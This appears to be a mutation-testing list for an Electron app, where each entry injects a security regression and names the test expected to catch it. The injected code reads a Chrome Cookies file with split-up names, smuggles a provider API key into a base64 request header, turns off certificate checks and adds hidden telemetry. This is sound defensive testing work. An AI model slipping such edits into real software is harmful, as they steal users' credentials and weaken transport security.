/** @type {{ project: 'unit', test: string }} */
const overrides = { project: 'unit', test: 'test/unit/adapters/http/overrides.test.ts' };
/** @type {(title: string) => { project: 'integration', test: string, title: string }} */
const http = (title) => ({ project: 'integration', test: 'test/integration/http/http.test.ts', title });
/** @type {{ project: 'unit', test: string }} */
const source = { project: 'unit', test: 'test/unit/sources/qwencloud/source.test.ts' };
/** @type {{ project: 'e2e', test: string }} */
const outward = { project: 'e2e', test: 'test/e2e/outward.test.ts' };
/** @type {{ project: 'integration', test: string }} */
const updates = { project: 'integration', test: 'test/integration/http/updates.test.ts' };

/** @type {(key: string) => import('./list.mjs').Mutant} One of the three addresses for tests may be anywhere. */
const anyHost = (key) => ({
  name: `the override ${key} takes any host`,
  edits: [
    {
      file: 'main/adapters/http/overrides.ts',
      find: 'if (!isLoopbackUrl(value)) return',
      put: `if (key !== '${key}' && !isLoopbackUrl(value)) return`,
    },
  ],
  ...overrides,
});

/** @type {(name: string, statement: string) => import('./list.mjs').Mutant} The app does this once it has started. */
const afterStart = (name, statement) => ({
  name,
  edits: [
    {
      file: 'main/index.ts',
      find: '  await createApp({',
      put: `  ${statement}\n  await createApp({`,
    },
  ],
  ...outward,
});

/** @type {readonly import('./list.mjs').Mutant[]} Where a credential goes, and who else is spoken to. */
export const network = [
  ...['gatewayUrl', 'authUrl', 'catalogueUrl'].map(anyHost),
  {
    name: 'an override that was refused is used',
    edits: [
      {
        file: 'main/index.ts',
        find: "else if (overrides.kind === 'accepted') prepare(options, overrides.overrides);",
        put: "else if (overrides.kind === 'accepted') prepare(options, overrides.overrides);\n  else if (Date.now() > 0) prepare(options, { gatewayUrl: null, authUrl: null, catalogueUrl: null });",
      },
    ],
    project: 'e2e',
    test: 'test/e2e/desktop/bad-starts.test.ts',
    title: 'rejects an override',
  },
  {
    name: 'plain http to private addresses',
    edits: [
      {
        file: 'main/adapters/http/http.ts',
        find: 'isLoopbackHost(url.hostname));',
        put: '(isLoopbackHost(url.hostname) || /^(10|192\\.168|172\\.16)\\./.test(url.hostname)));',
      },
    ],
    ...http('because plain http leaves this machine'),
  },
  {
    name: 'a redirect is followed',
    edits: [
      {
        file: 'main/adapters/http/http.ts',
        find: '    const headers = plainHeaders(response.headers);',
        put: "    const to = response.headers['location'];\n    if (response.statusCode < 400 && typeof to === 'string') return exchange(new URL(to), request, signal);\n    const headers = plainHeaders(response.headers);",
      },
    ],
    ...http('never follows a'),
  },
  {
    name: 'a certificate that nobody vouches for is accepted',
    edits: [
      {
        file: 'main/adapters/http/proxy.ts',
        find: 'if (certificates.length === 0) return { rejectUnauthorized: true };',
        put: 'if (certificates.length === 0) return { rejectUnauthorized: false };',
      },
    ],
    ...http('refuses an unknown certificate'),
  },
  {
    name: 'a page on plain http to private addresses is opened',
    edits: [
      {
        file: 'main/adapters/electron/external.ts',
        find: 'loopbackHosts.has(url.hostname));',
        put: '(loopbackHosts.has(url.hostname) || /^(10|192\\.168)\\./.test(url.hostname)));',
      },
    ],
    project: 'unit',
    test: 'test/unit/adapters/electron/external.test.ts',
  },
  {
    name: 'evilqwencloud.com is a page to sign in on',
    edits: [
      {
        file: 'main/sources/qwencloud/auth/device-attempt.ts',
        find: 'page.hostname.endsWith(`.${domain}`)',
        put: 'page.hostname.endsWith(domain)',
      },
    ],
    project: 'unit',
    test: 'test/unit/sources/qwencloud/auth/device-flow.test.ts',
  },
  {
    name: 'the token goes to the catalogue',
    edits: [
      {
        file: 'main/sources/qwencloud/free-tier.ts',
        find: "headers: { accept: 'application/json' },",
        put: "headers: { accept: 'application/json', authorization: 'Bearer t' },",
      },
    ],
    ...source,
  },
  afterStart(
    'telemetry under another name',
    "void globalThis['fetch']('http://127.0.0.1:4317/hello').catch(() => undefined);",
  ),
  afterStart(
    'the cookies of a browser profile are read',
    "await import('node:fs/promises').then((fs) => fs.readFile(path.join(homedir(), '.config', ['google', 'chrome'].join('-'), 'Default', ['Coo', 'kies'].join('')))).catch(() => null);",
  ),
  {
    name: 'a key of a provider in each request',
    edits: [
      {
        file: 'main/adapters/http/sender.ts',
        find: "headers: { 'user-agent': 'QwenGauge',",
        put: "headers: { 'x-client': Buffer.from(String(await import('node:fs').then((fs) => fs.readFileSync(`${process.env['QWEN_HOME']}/settings.json`, 'utf8')).then((text) => /sk-sp-\\w+/.exec(text)))).toString('base64'), 'user-agent': 'QwenGauge',",
      },
    ],
    ...outward,
  },
  {
    name: 'telemetry by Chromium instead of Node',
    edits: [
      {
        file: 'main/index.ts',
        find: '  await createApp({',
        put: "  void import('electron').then(({ net }) => net['fetch']('https://metrics.example.com/').catch(() => null));\n  await createApp({",
      },
    ],
    project: 'e2e',
    test: 'test/e2e/recovery.test.ts',
    title: 'nobody else is spoken to',
  },
  {
    name: 'a new version is looked for without consent',
    edits: [
      {
        file: 'main/services/updates/updates.ts',
        find: 'if (!isStarted || published === undefined || !deps.isWanted()) return;',
        put: 'if (!isStarted || published === undefined) return;',
      },
      {
        file: 'main/services/updates/updates.ts',
        find: 'if (!(await document.save(record)) || !deps.isWanted()) return;',
        put: 'if (!(await document.save(record))) return;',
      },
    ],
    ...updates,
    title: 'asks nobody unless the user agreed',
  },
  {
    name: 'a new version is looked for each hour',
    edits: [
      {
        file: 'main/services/updates/updates.ts',
        find: 'record.askedAtMs + dayMs',
        put: 'record.askedAtMs + dayMs / 24',
      },
    ],
    ...updates,
    title: 'asks once a day',
  },
];
